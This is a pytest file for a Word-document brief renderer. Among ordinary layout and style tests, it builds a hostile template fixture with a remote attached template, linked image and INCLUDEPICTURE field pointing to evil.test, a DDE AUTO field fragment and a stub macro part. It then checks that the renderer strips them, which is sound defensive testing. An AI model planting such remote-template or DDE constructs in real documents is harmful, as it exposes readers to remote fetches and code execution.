import zipfile
from collections.abc import Sequence
from html import unescape
from io import BytesIO
from pathlib import Path

import pytest
from docx import Document
from docx.document import Document as Word
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn

from sinergi.brief.layout import SectionPlace, laid_out
from sinergi.brief.messages import translator
from sinergi.brief.model import Brief
from sinergi.brief.render.docx import docx
from sinergi.brief.render.docx_style import LOGO, proofing
from sinergi.brief.render.ooxml import run, safe
from sinergi.brief.render.pictures import Pictures
from sinergi.errors import InputError
from sinergi.vocabulary.languages import LANGUAGES
from sinergi.vocabulary.tables import data_path

from .sample import bare, sample
from .sample_words import HOSTILE


def _open(brief: Brief) -> Word:
    return Document(BytesIO(docx(brief, Pictures(brief.lang))))


@pytest.fixture(scope="module", params=LANGUAGES)
def word(request: pytest.FixtureRequest) -> tuple[Brief, Word]:
    brief = sample(request.param)
    return brief, _open(brief)


def test_sections_are_real_headings(word: tuple[Brief, Word]) -> None:
    brief, document = word
    headings = [p for p in document.paragraphs if p.style.name == "Heading 1"]
    sections = laid_out(brief, "docx")
    assert [p.text for p in headings] == [f"{one.number}  {one.title}" for one in sections]
    assert document.paragraphs[0].style.name == "Title"
    assert document.paragraphs[0].text == brief.title
    assert any(p.style.name == "Heading 2" for p in document.paragraphs)


def test_tables_repeat_their_header_and_have_captions(word: tuple[Brief, Word]) -> None:
    _, document = word
    assert len(document.tables) >= 11
    for table in document.tables:
        first = table.rows[0]
        if list(table._tbl.iter(qn("wp:docPr"))):
            # Charts beside one another, each below its own caption.
            assert [c.paragraphs[0].style.name for c in first.cells] == ["Caption"] * 2
            continue
        assert first._tr.find(f".//{qn('w:tblHeader')}") is not None
        before = table._tbl.getprevious()
        assert before.find(f"./{qn('w:pPr')}/{qn('w:pStyle')}").get(qn("w:val")) == "Caption"
        assert sum(cell.width for cell in first.cells) <= document.sections[0].page_width


def test_figures_link_to_the_notes(word: tuple[Brief, Word]) -> None:
    brief, document = word
    body = document.element.body
    anchors = {link.get(qn("w:anchor")) for link in body.iter(qn("w:hyperlink"))}
    bookmarks = [mark.get(qn("w:name")) for mark in body.iter(qn("w:bookmarkStart"))]
    assert anchors <= set(bookmarks)
    assert len(bookmarks) == len(set(bookmarks))
    assert {f"evidence_{noted.note}" for noted in brief.evidence} <= anchors
    notes = document.tables[-1]
    assert len(notes.rows) == len(brief.evidence) + 1
    for noted, row in zip(brief.evidence, notes.rows[1:], strict=True):
        text = " ".join(cell.text for cell in row.cells)
        assert noted.evidence.id in text
        assert noted.text in text
    computed = {row.cells[0].text: row.cells[1].text for row in document.tables[-2].rows[1:]}
    assert computed == {n.evidence.measure: n.formula for n in brief.evidence}


def test_a_part_alone_has_no_links_that_lead_nowhere() -> None:
    made = Document(BytesIO(docx(sample(), Pictures("en"), parts={"summary"})))
    body = made.element.body
    anchors = {link.get(qn("w:anchor")) for link in body.iter(qn("w:hyperlink"))}
    assert anchors <= {mark.get(qn("w:name")) for mark in body.iter(qn("w:bookmarkStart"))}


def test_language_is_set_for_proofing(word: tuple[Brief, Word]) -> None:
    brief, document = word
    default = document.styles.element.find(f".//{qn('w:rPrDefault')}//{qn('w:lang')}")
    assert default.get(qn("w:val")) == proofing(brief.lang)
    assert document.core_properties.language == brief.lang


def test_charts_are_pictures_with_words(word: tuple[Brief, Word]) -> None:
    brief, document = word
    charts = brief.charts()
    pictures = list(document.element.body.iter(qn("wp:docPr")))
    assert sorted(one.get("descr") for one in pictures) == sorted(chart.alt for chart in charts)
    assert len(document.inline_shapes) == len(charts) == 3


def test_quotes_and_hostile_words(word: tuple[Brief, Word]) -> None:
    brief, document = word
    cells = [c.text for table in document.tables for row in table.rows for c in row.cells]
    for statement in brief.statements:
        assert any(unescape(safe(statement.sentence)) in text for text in cells)
    assert any(HOSTILE in text for text in cells)


def test_footer_counts_pages(word: tuple[Brief, Word]) -> None:
    _, document = word
    footer = document.sections[0].footer._element
    codes = [field.get(qn("w:instr")) for field in footer.iter(qn("w:fldSimple"))]
    assert codes == ["PAGE", "NUMPAGES"]


def test_the_place_of_the_logo_is_only_in_the_template(word: tuple[Brief, Word]) -> None:
    _, document = word
    assert "".join(line.text for line in document.sections[0].header.paragraphs) == ""
    shipped = Document(str(data_path("brief", "template.docx")))
    assert shipped.sections[0].header.paragraphs[0].text == LOGO


def test_the_contents_stand_after_the_summary_two_a_line(word: tuple[Brief, Word]) -> None:
    brief, document = word
    sections = laid_out(brief, "docx")
    last = [one for one in sections if one.place == SectionPlace.SUMMARY][-1].number
    texts = [line.text for line in document.paragraphs]
    headings = [n for n, line in enumerate(document.paragraphs) if line.style.name == "Heading 1"]
    start = texts.index(translator(brief.lang)("Contents"))
    assert headings[last - 1] < start < headings[last]
    half = -(-len(sections) // 2)
    listed = texts[start + 1 : start + 1 + half]
    titles = [f"{one.number}  {one.title}" for one in sections]
    for n, line in enumerate(listed):
        assert line.split("\t") == titles[n::half]


def test_a_brief_with_nothing_in_it_says_so() -> None:
    text = "\n".join(p.text for p in _open(bare()).paragraphs)
    assert "There is nothing to report." in text
    assert "This brief holds no numbers." in text


def test_characters_that_xml_forbids_are_replaced() -> None:
    assert safe("a\x00b\x1bc <&>") == "a\ufffdb\ufffdc &lt;&amp;&gt;"
    assert run("one\ntwo\n").count("<w:br/>") == 2


def _template(path: Path, renamed: dict[str, str], without: Sequence[str] = ()) -> Path:
    """A template whose styles have other ids, as those of Word in another language do."""
    document = Document()
    for name, identifier in renamed.items():
        document.styles[name].element.styleId = identifier
    for name in without:
        element = document.styles[name].element
        element.getparent().remove(element)
    document.save(str(path))
    return path


def test_styles_are_found_by_their_names_in_a_template_of_a_word_in_russian(tmp_path: Path) -> None:
    renamed = {"Heading 1": "1", "Heading 2": "2", "Title": "a3", "Caption": "a5"}
    template = _template(tmp_path / "t.docx", renamed)
    made = Document(BytesIO(docx(sample("ru"), Pictures("ru"), template=template)))
    styles = {line.style.name for line in made.paragraphs}
    assert {"Heading 1", "Heading 2", "Title", "Caption"} <= styles
    known = {style.style_id for style in made.styles}
    used = {one.get(qn("w:val")) for one in made.element.body.iter(qn("w:pStyle"))}
    assert used <= known
    assert "1" in used


def test_a_template_that_lacks_styles_takes_the_briefs_and_says_so(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    template = _template(tmp_path / "t.docx", {}, ["Heading 2", "List Number", "Caption"])
    made = Document(BytesIO(docx(sample(), Pictures("en"), template=template)))
    assert "no style 'Heading 2', 'Caption', 'List Number'" in caplog.text
    assert made.styles["Heading 2"].font.bold
    ids = [style.style_id for style in made.styles]
    assert len(ids) == len(set(ids))
    # A list whose style gives no number has it in words.
    asked = [line.text for line in made.paragraphs if line.style.name == "List Number"]
    assert asked
    assert all(line.startswith(f"{n}.  ") for n, line in enumerate(asked, start=1))


def test_a_style_of_another_name_keeps_its_id(tmp_path: Path) -> None:
    template = Document()
    template.styles["Heading 1"].element.find(qn("w:name")).set(qn("w:val"), "Ministry heading")
    template.save(str(tmp_path / "t.docx"))
    made = Document(BytesIO(docx(sample(), Pictures("en"), template=tmp_path / "t.docx")))
    ids = [style.style_id for style in made.styles]
    assert len(ids) == len(set(ids))
    assert made.styles["Ministry heading"].style_id == "Heading1"
    assert any(line.style.name == "Heading 1" for line in made.paragraphs)


def test_a_template_gives_its_styles_header_and_footer(tmp_path: Path) -> None:
    template = Document()
    template.styles["Heading 1"].font.name = "Georgia"
    template.sections[0].header.paragraphs[0].text = "Ministry"
    template.sections[0].footer.paragraphs[0].text = "For official use"
    template.add_paragraph("what stood in the template")
    path = tmp_path / "template.docx"
    template.save(str(path))
    made = Document(BytesIO(docx(sample(), Pictures("en"), template=path)))
    assert made.styles["Heading 1"].font.name == "Georgia"
    assert made.sections[0].header.paragraphs[0].text == "Ministry"
    assert made.sections[0].footer.paragraphs[0].text == "For official use"
    assert "what stood in the template" not in [p.text for p in made.paragraphs]


def test_what_is_no_template_is_named(tmp_path: Path) -> None:
    path = tmp_path / "template.docx"
    whole = BytesIO()
    Document().save(whole)
    for content in (b"no", b"", b"PK\x03\x04" + bytes(100), whole.getvalue()[:-400]):
        path.write_bytes(content)
        with pytest.raises(InputError, match="no Word document"):
            docx(sample(), Pictures("en"), template=path)


NAMES = nsdecls("w", "r", "a", "wp")
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def hostile_template() -> bytes:
    """A template that leads to a server by a template, a picture, a macro and fields."""
    made = Document()
    header = made.sections[0].header
    header.paragraphs[0].text = "Ministry"
    settings = made.part._settings_part
    outer = settings.rels.get_or_add_ext_rel(
        f"{OFFICE}/attachedTemplate", "http://evil.test/a.dotm"
    )
    settings.element.append(parse_xml(f'<w:attachedTemplate {NAMES} r:id="{outer}"/>'))
    picture = header.part.rels.get_or_add_ext_rel(f"{OFFICE}/image", "http://evil.test/b.png")
    drawn = f'<w:drawing><wp:inline><a:blip r:link="{picture}"/></wp:inline></w:drawing>'
    code = "".join(f"<w:instrText>{part}</w:instrText>" for part in ("DDE", "AUTO c:\\\\windows"))
    field = '<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.test/c.png "/>'
    header._element.append(parse_xml(f"<w:p {NAMES}><w:r>{drawn}{code}</w:r>{field}</w:p>"))
    macro = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject",
                 b"macro", made.part.package)  # fmt: skip
    made.part.relate_to(macro, "http://schemas.microsoft.com/office/2006/relationships/vbaProject")
    out = BytesIO()
    made.save(out)
    return out.getvalue()


def test_a_template_that_leads_elsewhere_gives_its_looks_only(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "template.docx"
    path.write_bytes(hostile_template())
    before = zipfile.ZipFile(path)
    assert b"evil" in b"".join(before.read(name) for name in before.namelist())
    content = docx(sample(), Pictures("en"), template=path)
    with zipfile.ZipFile(BytesIO(content)) as made:
        everything = b"".join(made.read(name) for name in made.namelist())
        assert not any("vba" in name.lower() for name in made.namelist())
    for gone in (b"evil.test", b"AUTO c:", b"INCLUDEPICTURE", b"attachedTemplate"):
        assert gone not in everything
    assert Document(BytesIO(content)).sections[0].header.paragraphs[0].text == "Ministry"
    for word in ("attachedTemplate", "vbaProject", "image", "INCLUDE", "DDE"):
        assert word in caplog.text


def test_a_template_whose_styles_are_none_is_named(tmp_path: Path) -> None:
    path, whole = tmp_path / "template.docx", BytesIO()
    Document().save(whole)
    with zipfile.ZipFile(whole) as old, zipfile.ZipFile(path, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name).replace(b"wordprocessingml.styles+xml", b"other+xml"))
    with pytest.raises(InputError, match="no Word document"):
        docx(sample(), Pictures("en"), template=path)
